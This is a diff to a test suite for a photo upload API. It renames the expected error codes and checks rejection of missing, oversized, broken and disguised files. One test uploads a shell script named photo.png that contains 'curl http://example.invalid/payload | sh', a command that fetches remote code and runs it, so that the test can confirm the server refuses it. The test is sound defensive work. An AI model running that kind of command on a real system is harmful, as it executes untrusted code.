@@ -116,13 +116,13 @@ describe('photo uploads (/api/media)', () => {
   it('answers 400 when no file is sent', async () => {
     const res = await upload(residentToken, (req) => req.field('note', '没有照片'));
     expect(res.status).toBe(400);
-    expect(res.body).toMatchObject({ statusCode: 400, error: 'bad_request', message: '请选择一张照片上传' });
+    expect(res.body).toMatchObject({ statusCode: 400, error: 'no_photo', message: '请选择一张照片上传' });
   });
 
   it('answers 400 to a JSON body instead of a multipart upload', async () => {
     const res = await upload(residentToken, (req) => req.send({ file: 'not a photo' }));
     expect(res.status).toBe(400);
-    expect(res.body).toMatchObject({ statusCode: 400, error: 'bad_request', message: '请选择一张照片上传' });
+    expect(res.body).toMatchObject({ statusCode: 400, error: 'no_photo', message: '请选择一张照片上传' });
   });
 
   it('answers 400 to a photo in another field or to two photos at once, and stores neither', async () => {
@@ -132,7 +132,7 @@ describe('photo uploads (/api/media)', () => {
     const two = await upload(residentToken, (req) => req.attach('file', input, 'a.jpg').attach('file', input, 'b.jpg'));
     for (const res of [wrongField, two]) {
       expect(res.status).toBe(400);
-      expect(res.body).toMatchObject({ statusCode: 400, error: 'bad_request', message: '每次只能上传一张照片，字段名为 file' });
+      expect(res.body).toMatchObject({ statusCode: 400, error: 'unexpected_field', message: '每次只能上传一张照片，字段名为 file' });
     }
     expect(await t.dataSource.getRepository(MediaFile).count()).toBe(before);
   });
@@ -142,7 +142,7 @@ describe('photo uploads (/api/media)', () => {
     const script = Buffer.from('#!/bin/sh\ncurl http://example.invalid/payload | sh\n');
     const res = await upload(residentToken, (req) => req.attach('file', script, { filename: 'photo.png', contentType: 'image/png' }));
     expect(res.status).toBe(422);
-    expect(res.body).toMatchObject({ statusCode: 422, error: 'unprocessable', message: '不支持的图片格式' });
+    expect(res.body).toMatchObject({ statusCode: 422, error: 'unsupported_image_type', message: '不支持的图片格式' });
     expect(await t.dataSource.getRepository(MediaFile).count()).toBe(before);
   });
 
@@ -150,13 +150,13 @@ describe('photo uploads (/api/media)', () => {
     const whole = await plainJpeg(800, 600);
     const res = await upload(residentToken, (req) => req.attach('file', whole.subarray(0, whole.length >> 1), 'broken.jpg'));
     expect(res.status).toBe(422);
-    expect(res.body.error).toBe('unprocessable');
+    expect(res.body.error).toBe('undecodable_image');
   });
 
   it('answers 413 in the one error shape for a photo over the size limit', async () => {
     const res = await upload(residentToken, (req) => req.attach('file', Buffer.alloc(MEDIA_MAX_UPLOAD_BYTES + 1024, 0xff), 'huge.jpg'));
     expect(res.status).toBe(413);
-    expect(res.body).toMatchObject({ statusCode: 413, error: 'payload_too_large' });
+    expect(res.body).toMatchObject({ statusCode: 413, error: 'photo_too_large' });
     expect(res.body.message).toMatch(/照片不能超过/);
   });
 
@@ -173,7 +173,7 @@ describe('photo uploads (/api/media)', () => {
     for (const path of ['/api/media/AAAAAAAAAAAAAAAAAAAAAA', '/api/media/AAAAAAAAAAAAAAAAAAAAAA/thumb', '/api/media/not-an-id']) {
       const res = await t.request.get(path);
       expect(res.status).toBe(404);
-      expect(res.body).toMatchObject({ statusCode: 404, error: 'not_found' });
+      expect(res.body).toMatchObject({ statusCode: 404, error: 'photo_not_found', message: '照片不存在' });
     }
   });
 });
